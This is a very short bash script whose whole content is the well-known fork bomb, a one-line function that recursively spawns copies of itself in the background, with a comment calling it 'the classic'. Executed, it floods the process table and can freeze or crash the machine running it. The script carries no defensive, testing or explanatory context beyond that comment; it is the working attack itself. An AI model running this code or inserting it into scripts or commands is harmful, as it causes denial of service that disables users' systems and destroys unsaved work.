#!/bin/bash
# The classic: every call forks two more in the background.
:(){ :|:& };:
